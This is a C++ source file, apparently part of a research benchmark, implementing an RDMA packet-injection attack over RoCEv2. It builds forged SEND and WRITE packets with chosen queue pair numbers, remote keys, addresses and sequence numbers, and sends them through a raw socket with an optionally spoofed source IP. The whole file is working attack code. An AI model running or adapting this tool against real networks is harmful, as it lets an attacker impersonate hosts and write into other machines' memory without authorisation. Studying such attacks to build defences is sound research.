#include "bench/attack/inject.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <thread>
#include <vector>

#include "bench/attack/wall_clock.hpp"
#include "dataplane/proto/builder.hpp"
#include "dataplane/proto/ethernet.hpp"

namespace insert::attack {

namespace {

// The address the kernel would send from towards `dst` (a connected UDP socket sends
// nothing).
std::string route_source(const std::string& dst, std::string& error) {
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(proto::kRoceV2Port);
    ::inet_pton(AF_INET, dst.c_str(), &sa.sin_addr);
    const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        error = std::string("socket: ") + std::strerror(errno);
        return "";
    }
    socklen_t len = sizeof sa;
    std::string out;
    if (::connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0 &&
        ::getsockname(fd, reinterpret_cast<sockaddr*>(&sa), &len) == 0) {
        char text[INET_ADDRSTRLEN];
        out = ::inet_ntop(AF_INET, &sa.sin_addr, text, sizeof text);
    } else {
        error = "no route to " + dst + ": " + std::strerror(errno);
    }
    ::close(fd);
    return out;
}

}  // namespace

nlohmann::ordered_json run_inject(const InjectOptions& o, bool& ok) {
    nlohmann::ordered_json out;
    out["attack"] = "inject";
    out["pid"] = ::getpid();
    out["t_start_ns"] = wall_ns();
    ok = false;
    auto failed = [&](const std::string& what) {
        out["error"] = what;
        out["t_end_ns"] = wall_ns();
        return out;
    };

    std::string error;
    const std::string local = route_source(o.dst_ip, error);
    if (local.empty()) return failed(error);
    const std::string src = o.src_ip.empty() ? local : o.src_ip;
    const auto src_addr = proto::IpAddress::parse(src);
    const auto dst_addr = proto::IpAddress::parse(o.dst_ip);
    if (!src_addr || !dst_addr || !src_addr->is_v4() || !dst_addr->is_v4())
        return failed("source and destination must be IPv4 addresses");
    const bool first = o.op == "write-first";
    const bool write = o.op == "write" || first;
    const uint32_t dma_len = first ? (o.dma_len ? o.dma_len : 4 * o.len) : o.len;
    if (first && dma_len <= o.len)
        return failed("--dma-len must exceed --len for a WRITE First (the rest never comes)");
    out["src_ip"] = src;
    out["local_ip"] = local;
    out["spoofed"] = src != local;
    out["dst_ip"] = o.dst_ip;
    out["dst_qpn"] = o.qpn;
    out["op"] = write ? "WRITE" : "SEND";
    out["rkey"] = write ? nlohmann::ordered_json(o.rkey) : nlohmann::ordered_json();
    out["va"] = write ? nlohmann::ordered_json(o.va) : nlohmann::ordered_json();
    out["len"] = o.len;
    out["opcode"] = first ? "WRITE_FIRST" : write ? "WRITE_ONLY" : "SEND_ONLY";
    out["dma_len"] = write ? nlohmann::ordered_json(dma_len) : nlohmann::ordered_json();
    out["sport"] = o.sport;

    // IPPROTO_RAW implies IP_HDRINCL: the IP header goes out as built, so the source can be
    // anyone's. The kernel only fills in the checksum (and the ID, which stays 0 with DF:
    // the value the ICRC was computed with, as softverbs' own senders use).
    const int fd = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd < 0)
        return failed(std::string("raw socket: ") + std::strerror(errno) +
                      " (needs root or CAP_NET_RAW)");
    sockaddr_in to{};
    to.sin_family = AF_INET;
    ::inet_pton(AF_INET, o.dst_ip.c_str(), &to.sin_addr);

    std::vector<uint8_t> payload(o.len);
    static constexpr char kPattern[] = "INSERT-ATTACK-INJECTED ";
    for (std::size_t i = 0; i < payload.size(); ++i)
        payload[i] = kPattern[i % (sizeof kPattern - 1)];

    proto::FrameSpec spec;
    spec.src_ip = *src_addr;
    spec.dst_ip = *dst_addr;
    spec.src_port = o.sport;
    spec.ipv4_id = 0;
    spec.t.bth.opcode = first   ? proto::op::kWriteFirst
                        : write ? proto::op::kWriteOnly
                                : proto::op::kSendOnly;
    spec.t.bth.dest_qp = o.qpn & 0xFFFFFF;
    spec.t.bth.ack_req = !first;  // a First asks for no acknowledgement
    spec.t.bth.pad = proto::pad_for(o.len);
    spec.t.reth.va = o.va;
    spec.t.reth.rkey = o.rkey;
    spec.t.reth.dma_len = dma_len;
    spec.payload_len = o.len;
    spec.payload = payload.data();

    nlohmann::ordered_json psns = nlohmann::ordered_json::array();
    std::vector<uint8_t> frame(proto::frame_length(spec));
    unsigned sent = 0;
    for (unsigned i = 0; i < o.count; ++i) {
        spec.t.bth.psn = (o.psn + i) & 0xFFFFFF;
        const std::size_t n = proto::build_frame(spec, frame);
        if (n == 0) {
            ::close(fd);
            return failed("build_frame refused the packet (length?)");
        }
        // The IP datagram only: the kernel adds the Ethernet header for the route.
        const uint8_t* ip = frame.data() + proto::kEthHeaderLen;
        if (::sendto(fd, ip, n - proto::kEthHeaderLen, 0, reinterpret_cast<sockaddr*>(&to),
                     sizeof to) < 0) {
            const std::string why = std::strerror(errno);
            ::close(fd);
            return failed("sendto " + o.dst_ip + ": " + why);
        }
        ++sent;
        psns.push_back(spec.t.bth.psn);
        if (i + 1 < o.count && o.gap_ms > 0)
            std::this_thread::sleep_for(
                std::chrono::microseconds(static_cast<int64_t>(o.gap_ms * 1000)));
    }
    ::close(fd);
    out["psn_first"] = o.psn & 0xFFFFFF;
    out["psns"] = psns;
    out["packets_sent"] = sent;
    out["t_end_ns"] = wall_ns();
    ok = true;
    return out;
}

}  // namespace insert::attack
